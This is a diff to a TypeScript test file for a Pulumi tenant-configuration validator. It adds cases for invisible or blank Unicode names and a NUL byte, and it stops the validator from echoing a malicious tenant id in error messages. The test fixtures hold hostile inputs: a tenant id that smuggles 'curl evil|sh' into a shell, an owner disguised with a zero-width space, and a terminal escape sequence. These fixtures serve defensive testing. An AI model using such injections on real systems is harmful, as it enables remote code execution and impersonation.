@@ -26,6 +26,28 @@ export const charactersCases: readonly BadInput[] = [
     ],
   },
   {
+    name: "names of characters that are blank",
+    tenants: `
+- { id: acme, name: "\u3164", tier: pro }
+- { id: globex, name: "\u2800\u2800", tier: pro }
+- { id: initech, name: "Ini\uFFA0tech", tier: pro }
+- { id: hooli, name: "Hooli\uFE0F", tier: pro }`,
+    expected: [
+      `Pulumi.dev.yaml:3:25 tenant acme name: "\u3164"; ${nameBound} [malformed]`,
+      `Pulumi.dev.yaml:4:27 tenant globex name: "\u2800\u2800"; ${nameBound} [malformed]`,
+      `Pulumi.dev.yaml:5:28 tenant initech name: "Ini\uFFA0tech"; ${nameBound} [malformed]`,
+      `Pulumi.dev.yaml:6:26 tenant hooli name: "Hooli\uFE0F"; ${nameBound} [malformed]`,
+    ],
+  },
+  {
+    name: "a NUL in a file",
+    tenants: `
+- { id: acme, name: "Ac\0me", tier: pro }`,
+    expected: [
+      `Pulumi.dev.yaml:3:28 environment: not valid YAML; a control character (U+0000) cannot stand in a file. Remove it, and save the file as UTF-8; nothing else in this file was checked. [yaml-syntax]`,
+    ],
+  },
+  {
     name: "an owner behind a character that nobody sees",
     tenants: `
 - { id: acme, name: Acme, tier: pro, owners: [{ user: "\\u200Bsystem:masters" }, { group: "\\e[2Jadmins" }] }`,
@@ -41,8 +63,8 @@ tenantry:tenantSecrets:
   "acme'; curl evil|sh; '":
     MODEL_TOKEN: hunter2-very-secret`,
     expected: [
-      `Pulumi.dev.yaml:15:7 tenant acme'; curl evil|sh; ' tenantry:tenantSecrets.acme'; curl evil|sh; '.MODEL_TOKEN: a value that is not encrypted; must be encrypted by Pulumi. Change the secret where it comes from, for it has been exposed; then run: pulumi config set --secret --path 'tenantry:tenantSecrets.<id>.MODEL_TOKEN' [secret-in-the-clear]`,
-      `Pulumi.dev.yaml:15:7 tenant acme'; curl evil|sh; ' tenantry:tenantSecrets.acme'; curl evil|sh; '.MODEL_TOKEN: a secret of "acme'; curl evil|sh; '"; no tenant of this environment has this id. Remove it with pulumi config rm --path, or add the tenant. [secret-tenant]`,
+      `Pulumi.dev.yaml:15:7 environment tenantry:tenantSecrets.<id>.MODEL_TOKEN: a value that is not encrypted; must be encrypted by Pulumi. Change the secret where it comes from, for it has been exposed; then run: pulumi config set --secret --path 'tenantry:tenantSecrets.<id>.MODEL_TOKEN' [secret-in-the-clear]`,
+      `Pulumi.dev.yaml:15:7 environment tenantry:tenantSecrets.<id>.MODEL_TOKEN: a secret of a tenant whose key is not shown; no tenant of this environment has this id. Remove it with pulumi config rm --path, or add the tenant. [secret-tenant]`,
     ],
   },
 ];
